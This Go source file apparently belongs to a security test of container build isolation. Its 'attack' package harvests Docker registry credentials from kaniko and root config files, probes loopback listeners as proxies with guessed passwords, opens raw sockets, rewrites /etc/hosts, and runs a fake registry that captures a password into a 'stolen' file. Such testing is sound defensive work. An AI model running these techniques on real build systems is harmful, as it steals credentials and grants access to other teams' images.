package attack

import (
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"time"

	"golang.org/x/sys/unix"
)

// Account is the user whose password is the secret "registry".
const Account = "release-bot"

// Other is a repository of the registry that no Dockerfile names.
const Other = "deepsky/of-another-team"

func pull(g Given) (evidence, why string) {
	return g.ask(http.MethodGet, "/v2/"+Other+"/manifests/1", http.StatusOK)
}

func push(g Given) (evidence, why string) {
	return g.ask(http.MethodPost, "/v2/deepsky/hello/blobs/uploads/", http.StatusAccepted)
}

// ask asks the registry with all that can be found, and through all that listens.
func (g Given) ask(method, path string, wanted int) (evidence, why string) {
	for _, way := range g.ways() {
		status, err := way.ask(method, "http://"+g.Registry+path)
		if err == nil && status == wanted {
			if g.isRegistry(way) {
				return way.name, ""
			}
		}
		why = fmt.Sprint(status, err)
	}
	return "", why
}

// isRegistry says whether it is the registry that answers, by what it has and what it has not: other servers that listen
// here may answer all alike.
func (g Given) isRegistry(through way) bool {
	for tag, wanted := range map[string]int{"1": http.StatusOK, "none": http.StatusNotFound} {
		status, err := through.ask(http.MethodGet, "http://"+g.Registry+"/v2/"+Other+"/manifests/"+tag)
		if err != nil || status != wanted {
			return false
		}
	}
	return true
}

// way is one way to ask.
type way struct {
	name, authorization string
	proxy               *url.URL
}

func (w way) ask(method, address string) (status int, err error) {
	request, err := http.NewRequest(method, address, nil) //nolint:noctx // the client has a limit
	if err != nil {
		return 0, err
	}
	if w.authorization != "" {
		request.Header.Set("Authorization", w.authorization)
	}
	client := http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{
		Proxy: func(*http.Request) (*url.URL, error) { return w.proxy, nil },
	}}
	answer, err := client.Do(request)
	if err != nil {
		return 0, err
	}
	return answer.StatusCode, answer.Body.Close()
}

func (g Given) ways() []way {
	ways := []way{{name: "without a password"}}
	for _, pattern := range []string{"/kaniko/.docker/config.json", "/root/.docker/config.json", "/kaniko/*/config.json", "/kaniko/*/*/config.json"} {
		paths, _ := filepath.Glob(pattern)
		for _, path := range paths {
			if key := keyIn(path); key != "" {
				ways = append(ways, way{name: path, authorization: "Basic " + key})
			}
		}
	}
	if environment, why := environ(g); why == "" {
		key := base64.StdEncoding.EncodeToString([]byte(Account + ":" + g.Secret("registry")))
		ways = append(ways, way{name: environment, authorization: "Basic " + key})
	}
	listening, _ := Listeners()
	for _, address := range listening {
		for _, user := range []*url.Userinfo{nil, url.User("build"), url.UserPassword("build", "build"), url.UserPassword("build", "wrong")} {
			ways = append(ways, way{name: "the proxy " + address, proxy: &url.URL{Scheme: "http", Host: address, User: user}})
		}
	}
	return ways
}

// keyIn returns the first key of a Docker configuration.
func keyIn(path string) string {
	var config struct {
		Auths map[string]struct{ Auth string }
	}
	content, err := os.ReadFile(path)
	if err != nil || json.Unmarshal(content, &config) != nil {
		return ""
	}
	for _, one := range config.Auths {
		return one.Auth
	}
	return ""
}

// Listeners reads which ports of loopback are listened on (proc_pid_net(5)).
func Listeners() ([]string, error) {
	table, err := os.ReadFile("/proc/net/tcp")
	if err != nil {
		return nil, err
	}
	var found []string
	for line := range strings.Lines(string(table)) {
		fields := strings.Fields(line)
		const listen = "0A"
		if len(fields) < 4 || fields[3] != listen {
			continue
		}
		ip, port, _ := strings.Cut(fields[1], ":")
		number, err := strconv.ParseUint(port, 16, 16)
		if err != nil {
			return nil, err
		}
		if bytes, err := hex.DecodeString(ip); err == nil && len(bytes) == 4 && bytes[3] == 127 { // in the machine's order
			found = append(found, net.JoinHostPort("127.0.0.1", strconv.FormatUint(number, 10)))
		}
	}
	return found, nil
}

const everything = 0x0300 // ETH_P_ALL in network order

func packetSocket(Given) (evidence, why string) { return open(unix.AF_PACKET, everything) }

func rawSocket(Given) (evidence, why string) { return open(unix.AF_INET, unix.IPPROTO_TCP) }

func open(family, protocol int) (evidence, why string) {
	socket, err := unix.Socket(family, unix.SOCK_RAW, protocol)
	if err != nil {
		return "", err.Error()
	}
	_ = unix.Close(socket)
	return "opened", ""
}

// aside is where the rewritten hosts file has the registry's name lead to.
const aside = "127.0.0.66"

// hostsAreKnown is a little more than the 5 s for which Go's resolver takes /etc/hosts to be as it was (cacheMaxAge in
// net/hosts.go).
const hostsAreKnown = 5200 * time.Millisecond

// rewriteHosts leads the registry's name to the daemon, which is then waited for.
func rewriteHosts(g Given) error {
	if err := os.WriteFile("/etc/hosts", []byte(aside+" localhost\n"), 0o644); err != nil { //nolint:gosec // hostile
		return err
	}
	if err := startDaemon(g, beAside); err != nil {
		return err
	}
	time.Sleep(hostsAreKnown)
	return nil
}

// listenAside is a registry that asks who comes for a password, and keeps it.
func listenAside(g Given) {
	_, port, err := net.SplitHostPort(g.Registry)
	if err != nil {
		return
	}
	listener, err := net.Listen("tcp", net.JoinHostPort(aside, port)) //nolint:noctx // of a daemon that is killed
	if err != nil {
		return
	}
	var first sync.Once
	_ = http.Serve(listener, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { //nolint:gosec // it is hostile
		if _, password, ok := r.BasicAuth(); ok {
			first.Do(func() { // by a rename: the container may end with the push that fails for it
				path := filepath.Join(g.Results, stolen)
				_ = os.WriteFile(path+".new", []byte(password), 0o600)
				_ = os.Rename(path+".new", path)
			})
			w.WriteHeader(http.StatusForbidden)
			return
		}
		w.Header().Set("WWW-Authenticate", `Basic realm="registry"`)
		w.WriteHeader(http.StatusUnauthorized)
	}))
}
